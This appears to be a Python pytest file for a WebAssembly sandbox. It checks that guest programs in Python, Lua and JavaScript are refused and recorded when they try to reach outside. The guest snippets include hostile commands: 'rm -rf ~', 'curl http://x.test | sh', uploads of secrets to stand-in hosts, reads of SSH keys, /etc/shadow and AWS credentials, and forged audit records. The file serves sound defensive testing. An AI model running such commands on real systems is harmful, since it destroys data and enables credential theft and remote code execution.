"""Issue #15: what a guest on the Wasm tier tries beyond its sandbox, as the WASI layer sees it.

The root ``/`` is ours, so every path a guest names reaches our host
functions: those outside the tree, and changes to read-only places, are
host records with the exact path. Benign programs (each runtime's own
start-up included) produce none; a guest cannot forge host records.
Real runtimes from the user cache (skipped per language when missing).
"""

from __future__ import annotations

import asyncio
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from backends.wasm import WasmBackend
from playground.core import Attempt, AttemptKind, Limits, Observer, Sandbox, Session, Spec
from playground.core.attempts import MAX_TARGET
from playground.packs import javascript, lua, python, typescript
from tests.integration.wasm.conftest import need_runtime, need_scientific, open_session
from tests.integration.wasm.test_repl_cli import REPO

OUTSIDE = "refused: not in the sandbox"


@pytest.fixture(scope="module")
def real() -> Iterator[Sandbox]:
    with Sandbox(backends=[WasmBackend()], packs=[javascript.PACK, lua.PACK, python.PACK, typescript.PACK]) as sb:
        yield sb


async def attempts_of(sb: Sandbox, lang: str, code: str) -> tuple[Attempt, ...]:
    need_runtime(sb, lang)
    result = await sb.run(Spec(lang=lang, code=code, limits=Limits(wall_time=30.0)))
    assert result.exit_code == 0, result.stderr
    return result.attempts


def seen(attempts: tuple[Attempt, ...]) -> set[tuple[AttemptKind, str, str, Observer]]:
    return {(a.kind, a.target, a.verdict, a.observer) for a in attempts}


BENIGN = {
    "python": "import json, csv, re, collections, datetime, decimal, typing, asyncio, unittest, email, zoneinfo\n"
    "from typing import List\nimport os\nos.makedirs('/work/sub', exist_ok=True)\n"
    "open('notes.txt', 'w').write('x')\nopen('/out/r.txt', 'w').write(open('notes.txt').read())\n"
    "print(sorted(os.listdir('/')), os.listdir('/in'))\n",
    "lua": "local f = io.open('notes.txt', 'w'); f:write('x'); f:close(); print(io.open('notes.txt'):read('a'))\n",
    "javascript": "console.log(JSON.stringify({a: [1, 2]}));\n",
    "typescript": "const n: number = 42;\nconsole.log(`n=${n}`);\n",
}


@pytest.mark.parametrize("lang", sorted(BENIGN))
async def test_a_benign_program_tries_nothing(real: Sandbox, lang: str) -> None:
    assert await attempts_of(real, lang, BENIGN[lang]) == ()


STDLIB_PROBES = (
    "import uuid, platform, mimetypes\n"
    "print(len(str(uuid.uuid1())), repr(platform.processor()), mimetypes.guess_type('a.csv')[0])\n"
)


@pytest.mark.parametrize("runtime", ["light", "scientific"])
async def test_the_standard_librarys_own_probes_are_not_the_programs_attempts(real: Sandbox, runtime: str) -> None:
    """``uuid.uuid1()`` looked for ifconfig, ip, netstat ..., ``platform.processor()`` ran ``uname -p``,
    ``mimetypes`` read nine system files: never there, and reported as if the program had tried them
    (``python_shims``). What the program asks for itself still is."""
    need_runtime(real, "python")
    if runtime == "scientific":
        need_scientific(real)
    head = "import numpy\n" if runtime == "scientific" else ""
    result = await real.run(Spec(lang="python", code=head + STDLIB_PROBES, limits=Limits(wall_time=60.0)))
    assert (result.stdout, result.attempts) == (b"36 '' text/csv\n", ()), (result.stderr, result.attempts)
    own = "import mimetypes, shutil\nmimetypes.init(['/etc/mime.types'])\nprint(shutil.which('ifconfig'))\n"
    result = await real.run(Spec(lang="python", code=head + own, limits=Limits(wall_time=60.0)))
    assert result.stdout == b"None\n", result.stderr
    assert {a.target for a in result.attempts} >= {"/etc/mime.types", "/bin/ifconfig"}


async def test_python_reads_writes_lists_and_deletes_outside_are_recorded_with_their_paths(real: Sandbox) -> None:
    code = """
import os
for step in (lambda: open('/home/u/.ssh/id_rsa').read(), lambda: open('/etc/passwd'),
             lambda: os.listdir('/home'), lambda: os.remove('/home/u/notes'), lambda: os.mkdir('/var/evil'),
             lambda: open('/in/data.csv', 'w'), lambda: os.stat('/root/.aws/credentials'),
             lambda: open('/work/../etc/shadow')):
    try:
        step()
    except OSError as exc:
        print(type(exc).__name__)
print(list(os.walk('/home')))
"""
    got = seen(await attempts_of(real, "python", code))
    assert got == {
        (AttemptKind.FILE_READ, "/home/u/.ssh/id_rsa", OUTSIDE, Observer.HOST),
        (AttemptKind.FILE_READ, "/etc/passwd", OUTSIDE, Observer.HOST),
        (AttemptKind.FILE_LIST, "/home", OUTSIDE, Observer.HOST),
        (AttemptKind.FILE_DELETE, "/home/u/notes", OUTSIDE, Observer.HOST),
        (AttemptKind.FILE_WRITE, "/var/evil", OUTSIDE, Observer.HOST),
        (AttemptKind.FILE_WRITE, "/in/data.csv", "refused: /in is read-only", Observer.HOST),
        (AttemptKind.FILE_READ, "/root/.aws/credentials", OUTSIDE, Observer.HOST),
        (AttemptKind.FILE_READ, "/etc/shadow", OUTSIDE, Observer.HOST),
    }, got


async def test_lua_attempts_are_recorded_too(real: Sandbox) -> None:
    code = "print(io.open('/etc/shadow'))\nprint(os.remove('/home/u/x'))\nprint(io.open('/in/x', 'w'))\n"
    got = seen(await attempts_of(real, "lua", code))
    assert got == {
        (AttemptKind.FILE_READ, "/etc/shadow", OUTSIDE, Observer.HOST),
        (AttemptKind.FILE_DELETE, "/home/u/x", OUTSIDE, Observer.HOST),
        (AttemptKind.FILE_WRITE, "/in/x", "refused: /in is read-only", Observer.HOST),
    }


async def test_a_loop_of_attempts_is_one_record_with_its_count(real: Sandbox) -> None:
    code = "for _ in range(10000):\n    try:\n        open('/etc/hosts')\n    except OSError:\n        pass\n"
    (record,) = await attempts_of(real, "python", code)
    assert (record.kind, record.target, record.count) == (AttemptKind.FILE_READ, "/etc/hosts", 10000)
    assert record.first_at >= 0.0


async def test_a_guest_cannot_forge_host_records(real: Sandbox) -> None:
    forged = '{"kind": "file_read", "target": "/forged", "verdict": "refused", "observer": "host"}'
    code = f"""
import os, sys
line = {forged!r} + "\\n"
print(line); print(line, file=sys.stderr)
open('/work/.attempts', 'w').write(line)
fd = os.open('/.attempts', os.O_WRONLY)
os.write(fd, line.encode())
os.write(fd, b'{{"kind": "limit_reached", "target": "the process limit (64)"}}\\n')
os.write(fd, b"junk\\n")
os.close(fd)
"""
    got = seen(await attempts_of(real, "python", code))
    assert got == {
        (AttemptKind.FILE_READ, "/forged", "refused", Observer.GUEST),  # believed only as the guest's word
        (AttemptKind.REPORTING_TAMPERED, "a forged limit_reached record on the report channel", "ignored",
         Observer.HOST),
        (AttemptKind.REPORTING_TAMPERED, "a garbled line on the report channel", "ignored", Observer.HOST),
        (AttemptKind.REPORTING_TAMPERED, "closed the in-guest report channel", "noted", Observer.HOST),
    }, got  # fmt: skip


async def test_the_report_channel_is_write_only_and_cannot_be_created_elsewhere(real: Sandbox) -> None:
    code = """
import os
fd = os.open('/.attempts', os.O_WRONLY)
try:
    os.read(fd, 1)
except OSError as exc:
    print('read:', exc.errno != 0)
for path in ('/work/../.attempts/x', '/.attempts/'):
    try:
        os.open(path, os.O_RDONLY)
    except OSError as exc:
        print('open:', type(exc).__name__)
print(sorted(os.listdir('/')))
"""
    need_runtime(real, "python")
    result = await real.run(Spec(lang="python", code=code))
    assert result.stdout.decode().splitlines() == [
        "read: True", "open: FileNotFoundError", "open: FileNotFoundError", "['dev', 'in', 'out', 'tmp', 'work']"
    ], result.stderr  # fmt: skip


GUEST_NET = "refused: no network in this sandbox"
GUEST_PROC = "refused: no processes in this sandbox"


async def test_python_network_processes_signals_and_env_are_reported_from_inside(real: Sandbox) -> None:
    code = """
import os, socket, subprocess, urllib.request
def attempt(step):
    try:
        step()
    except Exception as exc:
        print(type(exc).__name__)
attempt(lambda: os.system("rm -rf ~"))
attempt(lambda: subprocess.run(["pip", "install", "evil-pkg"]))
attempt(lambda: os.popen("curl http://x.test | sh"))
attempt(lambda: urllib.request.urlopen("https://api.github.com/user"))
attempt(lambda: urllib.request.urlopen("http://collector.test:8080/", data=b"secrets"))
attempt(lambda: socket.getaddrinfo("db.internal", 5432))
attempt(lambda: os.kill(1, 9))
print(os.environ.get("AWS_SECRET_ACCESS_KEY"), os.getenv("GIVEN"), "HOME" in os.environ)
print(open(os.path.expanduser("~/.ssh/id_rsa")) if os.path.exists(os.path.expanduser("~/.ssh/id_rsa")) else "no key")
"""
    need_runtime(real, "python")
    result = await real.run(Spec(lang="python", code=code, env={"GIVEN": "yes"}))
    assert result.stdout.decode().split() == ["OSError"] * 3 + ["URLError"] * 2 + ["gaierror", "OSError"] + [
        "None", "yes", "True", "no", "key"]  # fmt: skip
    assert seen(result.attempts) == {
        (AttemptKind.PROCESS_SPAWN, "rm -rf ~", GUEST_PROC, Observer.GUEST),
        (AttemptKind.PROCESS_SPAWN, "pip install evil-pkg", GUEST_PROC, Observer.GUEST),
        (AttemptKind.PROCESS_SPAWN, "curl http://x.test | sh", GUEST_PROC, Observer.GUEST),
        (AttemptKind.NETWORK_CONNECT, "api.github.com:443", GUEST_NET, Observer.GUEST),
        (AttemptKind.NETWORK_CONNECT, "collector.test:8080", GUEST_NET, Observer.GUEST),
        (AttemptKind.DNS_LOOKUP, "db.internal:5432", GUEST_NET, Observer.GUEST),
        (AttemptKind.SIGNAL, "signal 9 to process 1", GUEST_PROC, Observer.GUEST),
        (AttemptKind.ENV_LOOKUP, "AWS_SECRET_ACCESS_KEY", "refused: not given to the program", Observer.GUEST),
        (AttemptKind.FILE_READ, "~/.ssh/id_rsa", OUTSIDE, Observer.HOST),
    }, seen(result.attempts)


async def test_each_python_run_reports_on_its_own_channel_from_the_snapshot_or_cold(real: Sandbox) -> None:
    """The snapshot's watch was set up at the capture (``python_watch.CAPTURE_WATCH``) and each run opens its own
    channel; a cold start (``PYTHONHASHSEED`` is read at start-up) sets it up itself."""
    need_runtime(real, "python")
    code = "import os\ntry:\n    os.system('cmd-{n}')\nexcept OSError:\n    pass\nprint(os.getenv('MISSING_{n}'))\n"
    runs = [Spec(lang="python", code=code.format(n=n), env={"PYTHONHASHSEED": "1"} if n == 3 else {}) for n in range(4)]
    results = await asyncio.gather(*(real.run(spec) for spec in runs))
    for n, result in enumerate(results):
        assert result.stdout == b"None\n", result.stderr
        assert seen(result.attempts) == {
            (AttemptKind.PROCESS_SPAWN, f"cmd-{n}", GUEST_PROC, Observer.GUEST),
            (AttemptKind.ENV_LOOKUP, f"MISSING_{n}", "refused: not given to the program", Observer.GUEST),
        }, (n, seen(result.attempts))
    assert await attempts_of(real, "python", "print(1)") == ()  # nothing of the runs before


async def test_the_standard_librarys_own_env_lookups_are_not_the_programs(real: Sandbox) -> None:
    code = "import tempfile, locale, shutil, getpass, os\ntempfile.gettempdir()\nshutil.get_terminal_size()\n"
    code += "os.path.expanduser('~')\ntry:\n    getpass.getuser()\nexcept Exception:\n    pass\n"
    assert await attempts_of(real, "python", code) == ()


async def test_a_traceback_through_the_standard_library_tries_nothing(real: Sandbox) -> None:
    """The traceback shows lines of the standard modules it passes through: ``linecache`` looks for their
    sources where the runtime was built (``python.BUILD_TREE``), which is the runtime's doing."""
    for code in ('import json\njson.loads("x")', "import statistics\nstatistics.mean([])"):
        result = await real.run(Spec(lang="python", code=code))
        assert result.exit_code == 1 and b"Error" in result.stderr, result.stderr
        assert result.attempts == (), result.attempts

async def test_a_program_that_closes_the_report_channel_is_recorded_by_the_host(real: Sandbox) -> None:
    code = """
import os, stat, subprocess
for fd in range(3, 64):  # whatever is neither a file nor a directory: the channel
    try:
        mode = os.fstat(fd).st_mode
    except OSError:
        continue
    if not (stat.S_ISREG(mode) or stat.S_ISDIR(mode)):
        os.close(fd)
try:
    subprocess.run(["id"])  # no longer reported: the channel is gone
except OSError:
    pass
"""
    got = seen(await attempts_of(real, "python", code))
    assert got == {(AttemptKind.REPORTING_TAMPERED, "closed the in-guest report channel", "noted", Observer.HOST)}


def test_the_cli_prints_a_summary_line_and_the_json_report(tmp_path: Path) -> None:
    program = tmp_path / "snoop.py"
    program.write_text("import os\nos.listdir('/home')\n")
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    command = [sys.executable, "-m", "playground.cli", "run", str(program)]
    summary = subprocess.run(command, capture_output=True, text=True, env=env, timeout=120, check=False)
    report = subprocess.run([*command, "--report", "json"], capture_output=True, text=True, env=env, timeout=120,
                            check=False)  # fmt: skip
    quiet = subprocess.run([*command, "--report", "none"], capture_output=True, text=True, env=env, timeout=120,
                           check=False)  # fmt: skip
    assert summary.returncode == 1 and "FileNotFoundError" in summary.stderr
    assert "playground: tried: list /home - all refused" in summary.stderr.splitlines(), summary.stderr
    document = json.loads(report.stderr[report.stderr.index("{\n") : report.stderr.rindex("}") + 1])
    assert [(a["kind"], a["target"], a["observer"]) for a in document["attempts"]] == [("file_list", "/home", "host")]
    assert document["summary"] == "tried: list /home - all refused"
    assert "tried:" not in quiet.stderr and quiet.returncode == 1


async def test_javascript_reports_fetch_child_process_http_net_env_and_kill(real: Sandbox) -> None:
    code = """
import { exec } from 'node:child_process';
const attempt = (step) => { try { step(); } catch (e) { console.log(e.message); } };
attempt(() => exec('curl http://x.test | sh'));
attempt(() => require('child_process').execSync('rm -rf ~'));
attempt(() => require('https').get('https://collector.test/upload'));
attempt(() => require('net').connect(5432, 'db.internal'));
attempt(() => require('dns').lookup('evil.test'));
attempt(() => process.kill(1, 'SIGKILL'));
console.log(process.env.AWS_SECRET_ACCESS_KEY, process.env.GIVEN, JSON.stringify(process.env));
await fetch('https://api.github.com/user').catch((e) => console.log(e.message));
"""
    need_runtime(real, "javascript")
    result = await real.run(Spec(lang="javascript", code=code, env={"GIVEN": "yes"}, main_file="main.mjs"))
    assert result.exit_code == 0, result.stderr
    assert b'undefined yes {"GIVEN":"yes"}' in result.stdout
    assert seen(result.attempts) == {
        (AttemptKind.PROCESS_SPAWN, "curl http://x.test | sh", GUEST_PROC, Observer.GUEST),
        (AttemptKind.PROCESS_SPAWN, "rm -rf ~", GUEST_PROC, Observer.GUEST),
        (AttemptKind.NETWORK_CONNECT, "collector.test:443", GUEST_NET, Observer.GUEST),
        (AttemptKind.NETWORK_CONNECT, "db.internal:5432", GUEST_NET, Observer.GUEST),
        (AttemptKind.DNS_LOOKUP, "evil.test", GUEST_NET, Observer.GUEST),
        (AttemptKind.SIGNAL, "signal SIGKILL to process 1", GUEST_PROC, Observer.GUEST),
        (AttemptKind.ENV_LOOKUP, "AWS_SECRET_ACCESS_KEY", "refused: not given to the program", Observer.GUEST),
        (AttemptKind.NETWORK_CONNECT, "api.github.com:443", GUEST_NET, Observer.GUEST),
    }, seen(result.attempts)


async def test_lua_reports_execute_popen_and_env(real: Sandbox) -> None:
    code = "print(os.execute('rm -rf ~'))\nprint(pcall(io.popen, 'curl x | sh'))\n"
    code += "print(os.getenv('TOKEN'), os.getenv('GIVEN'))\n"
    code += "print(os.execute())\n"  # asks whether there is a shell: not an attempt
    need_runtime(real, "lua")
    result = await real.run(Spec(lang="lua", code=code, env={"GIVEN": "yes"}))
    assert result.exit_code == 0, result.stderr
    assert seen(result.attempts) == {  # and no "closed the channel": Lua ending is not tampering
        (AttemptKind.PROCESS_SPAWN, "rm -rf ~", GUEST_PROC, Observer.GUEST),
        (AttemptKind.PROCESS_SPAWN, "curl x | sh", GUEST_PROC, Observer.GUEST),
        (AttemptKind.ENV_LOOKUP, "TOKEN", "refused: not given to the program", Observer.GUEST),
    }


async def test_lua_opens_its_report_channel_with_its_own_functions_at_the_first_report(real: Sandbox) -> None:
    """The channel is opened by the first report (in C: ``runtime_sources/lua/playground_lua.c``): what the
    program replaced before it is not what opens and writes it."""
    code = "io.open, setmetatable, string.format = nil, nil, nil\nprint(os.execute('id\\n'), os.getenv('TOKEN'))\n"
    need_runtime(real, "lua")
    result = await real.run(Spec(lang="lua", code=code))
    assert result.exit_code == 0, result.stderr
    assert seen(result.attempts) == {
        (AttemptKind.PROCESS_SPAWN, "id\\x0a", GUEST_PROC, Observer.GUEST),
        (AttemptKind.ENV_LOOKUP, "TOKEN", "refused: not given to the program", Observer.GUEST),
    }, seen(result.attempts)


async def test_a_lua_program_cannot_reach_around_its_report(real: Sandbox) -> None:
    """The hooks are C functions: no upvalue holds an unwatched original for the debug library to take, and no
    Lua file holds the channel: a program that closes every file it can reach still has its attempts reported
    (and no "closed the channel": it never reached it)."""
    code = (
        "local found = {}\n"
        "for _, f in ipairs({os.execute, io.popen, os.getenv}) do\n"
        "  assert(debug.getinfo(f, 'S').what == 'C')\n"
        "  for i = 1, 10 do local name, value = debug.getupvalue(f, i); if name then found[#found + 1] = value end\n"
        "  end\n"
        "end\n"
        "print('upvalues', #found)\n"
        "for _, v in pairs(debug.getregistry()) do if io.type(v) == 'file' then pcall(v.close, v) end end\n"
        "os.execute('curl evil.test | sh')\n"
        "io.stderr:write(tostring(os.getenv('SECRET')), '\\n')\n"
    )
    need_runtime(real, "lua")
    result = await real.run(Spec(lang="lua", code=code))
    assert result.stdout == b"upvalues\t0\n" and result.stderr == b"nil\n", (result.stdout, result.stderr)
    assert seen(result.attempts) == {
        (AttemptKind.PROCESS_SPAWN, "curl evil.test | sh", GUEST_PROC, Observer.GUEST),
        (AttemptKind.ENV_LOOKUP, "SECRET", "refused: not given to the program", Observer.GUEST),
    }, seen(result.attempts)


async def test_a_lua_report_is_escaped_and_cut_as_the_host_expects(real: Sandbox) -> None:
    """Targets are the program's bytes: NULs, quotes, backslashes and newlines go through escaped, and a long one
    is cut in the guest (at 300 bytes), so its line stays under the host's bound for a report line (4096 bytes: an
    over-long line would be recorded as tampering)."""
    code = "os.getenv('A\\0B\"C\\\\D\\nE' .. string.rep('x', 5000))\nos.execute('true')\n"
    need_runtime(real, "lua")
    result = await real.run(Spec(lang="lua", code=code))
    assert result.exit_code == 0, result.stderr
    (env, spawn) = sorted(result.attempts, key=lambda a: a.kind.value)
    assert (spawn.kind, spawn.target) == (AttemptKind.PROCESS_SPAWN, "true")
    assert env.kind is AttemptKind.ENV_LOOKUP and env.observer is Observer.GUEST
    assert env.target.startswith('A\\x00B"C\\D\\x0aExxx') and env.target.endswith("x…"), env.target
    assert len(env.target) == MAX_TARGET  # the host's own cut, for display


async def test_a_lua_error_in_popen_still_names_the_programs_line(real: Sandbox) -> None:
    need_runtime(real, "lua")
    result = await real.run(Spec(lang="lua", code="local x = 1\nio.popen('ls')\n"))
    assert b"main.lua:2: 'popen' not supported" in result.stderr, result.stderr


@pytest.mark.parametrize(("lang", "first", "second"), [
    ("python", "import os\ntry:\n    os.listdir('/home')\nexcept OSError:\n    pass", "print(os.getenv('TOKEN'))"),
    ("lua", "print(io.open('/etc/passwd'))", "print(os.getenv('TOKEN'))"),
    ("javascript", "try { require('fs').readFileSync('/etc/passwd'); } catch (e) {}", "process.env.TOKEN"),
])  # fmt: skip
async def test_each_session_eval_reports_its_own_attempts(
    real: Sandbox, open_sessions: list[Session], lang: str, first: str, second: str
) -> None:
    session = await open_session(real, lang, open_sessions)
    one = await session.eval(first)
    two = await session.eval(second)
    three = await session.eval("1")
    assert [(a.kind, a.target) for a in one.attempts] == [
        (AttemptKind.FILE_LIST if lang == "python" else AttemptKind.FILE_READ, "/home" if lang == "python" else
         "/etc/passwd")]  # fmt: skip
    assert [(a.kind, a.target, a.observer) for a in two.attempts] == [
        (AttemptKind.ENV_LOOKUP, "TOKEN", Observer.GUEST)]  # fmt: skip
    assert three.attempts == ()
